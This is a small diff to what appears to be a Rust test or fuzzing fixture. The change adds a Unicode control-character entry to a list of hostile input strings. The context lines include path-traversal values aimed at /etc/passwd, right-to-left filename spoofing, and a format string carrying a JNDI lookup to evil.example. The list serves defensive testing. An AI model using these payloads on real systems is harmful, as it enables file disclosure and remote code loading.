@@ -35,6 +35,7 @@ const PAYLOADS: &[(&str, &str)] = &[
     ("path", "../../../../etc/passwd"),
     ("windows path", "..\\..\\C:\\x.exe"),
     ("right to left", "\u{202e}exe.txt\u{202c}\u{2066}x\u{2069}"),
+    ("arabic letter mark", "\u{61c}港\u{61c}区\u{200f}\u{206f}\u{fff9}"),
     ("zero width", "港\u{200b}\u{200d}\u{feff}\u{2060}区\u{e0041}\u{fe0f}"),
     ("combining", "港\u{0301}\u{0316}\u{0327}\u{0338}\u{20dd}\u{0489}区"),
     ("format", "%s%n%x%d${jndi:ldap://evil.example/a}"),
